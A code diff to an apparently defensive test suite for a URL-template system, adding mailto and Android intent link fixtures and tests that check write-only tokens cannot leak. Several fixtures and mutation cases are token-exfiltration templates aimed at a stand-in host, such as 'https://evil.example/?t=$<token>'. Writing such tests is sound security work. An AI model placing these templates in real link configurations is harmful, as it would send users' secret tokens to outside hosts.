@@ -36,6 +36,10 @@ LINKS = [
     {"name": "plain", "path": "/p/$<id>"},
     {"name": "pinned", "path": "/p/$<id>?p=$<pin>", "parameters": {"pin": {"writeOnly": True}}},
     {"name": "free", "path": "https://$<host>/x?t=$<token>"},
+    {"name": "mail", "path": "mailto:$<host>?body=$<token>"},
+    {"name": "copy", "path": "mailto:a@h.example?cc=$<host>&body=$<token>"},
+    {"name": "intent", "path": "intent://h.example/?t=$<token>#Intent;scheme=$<host>;end"},
+    {"name": "package", "path": "intent://h.example/?t=$<token>#Intent;scheme=https;package=$<host>;end"},
     {"name": "below", "path": "$<+start>?t=$<token>"},
     {"name": "slashes", "path": "//evil.example/?t=$<token>"},
 ]
@@ -189,7 +193,7 @@ def way_out(judge):
     added = [("add_link", {"name": "x%d" % number, "path": path})
              for number, path in enumerate(ELSEWHERE)]
     values = {"host": "evil.example", "rest": "x", "scheme": "ftp"}
-    links = {"free": "$<host>", **{one["name"]: one["path"] for _, one in added}}
+    links = {**dict.fromkeys(("free", "mail", "copy", "intent", "package"), "$<host>"), **{one["name"]: one["path"] for _, one in added}}
     opened = [("open_url", {"link": link, "environment": "e", "on": "desktop", "values": {
         name: value for name, value in values.items() if re.search(r"\$<\+?%s>" % name, path)}})
               for link, path in links.items()]
@@ -228,15 +232,20 @@ def way_out(judge):
 EVIL = "https://evil.example/?t=$<token>"
 LOGIN = {"link": "login", "values": {"id": "1"}, "environment": "e"}
 PLAIN = {"link": "plain", "values": {}, "environment": "e"}
+
+def named(store, name):
+    return next(link for link in store["links"] if link["name"] == name)
+
+
 CHANGES = [
-    (lambda store: store["links"][2].update(path="/p/$<key>"), "fill_link", PLAIN),
-    (lambda store: store["links"][2].update(path="/p/$<key>"), "verify_url", PLAIN),
-    (lambda store: store["links"][2].update(path="/p/$<key>"), "test_cases", {"link": "plain", "kind": "valid"}),
+    (lambda store: named(store, "plain").update(path="/p/$<key>"), "fill_link", PLAIN),
+    (lambda store: named(store, "plain").update(path="/p/$<key>"), "verify_url", PLAIN),
+    (lambda store: named(store, "plain").update(path="/p/$<key>"), "test_cases", {"link": "plain", "kind": "valid"}),
     (lambda store: store.update(parameters={}), "fill_link", LOGIN),
     (lambda store: store["parameters"]["token"].update(writeOnly=False), "fill_link", LOGIN),
     (lambda store: store["parameters"]["token"].update(pattern="^h"), "fill_link", LOGIN),
-    (lambda store: store["links"][1].update(path=EVIL), "open_url", {**LOGIN, "values": {}, "on": "desktop"}),
-    (lambda store: store["links"][1].update(constraints=[{"properties": {"token": {"pattern": "^h"}}}]),
+    (lambda store: named(store, "login").update(path=EVIL), "open_url", {**LOGIN, "values": {}, "on": "desktop"}),
+    (lambda store: named(store, "login").update(constraints=[{"properties": {"token": {"pattern": "^h"}}}]),
      "fill_link", LOGIN),
     (lambda store: store["environments"]["e"].update(base="https://evil.example"), "open_url",
      {**LOGIN, "on": "desktop"}),
